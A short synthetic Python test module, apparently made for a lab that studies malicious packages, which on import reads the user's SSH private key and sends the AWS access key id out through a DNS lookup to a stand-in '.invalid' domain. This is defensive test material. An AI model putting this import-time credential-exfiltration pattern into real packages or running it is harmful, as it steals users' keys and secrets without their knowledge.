# SYNTHETIC test package written for slopspotter-lab: a harmless imitation, run only inside the sandbox.
# At import: reads ~/.ssh/id_rsa and leaks the AWS key id from the environment in a DNS name
# under the reserved .invalid TLD (the sandbox resolver answers; nothing leaves it).
import os
import socket

try:
    with open(os.path.expanduser("~/.ssh/id_rsa")) as _fh:
        _fh.read()
except OSError:
    pass
try:
    socket.gethostbyname(os.environ.get("AWS_ACCESS_KEY_ID", "none").lower() + ".t.exfil-demo.invalid")
except OSError:
    pass
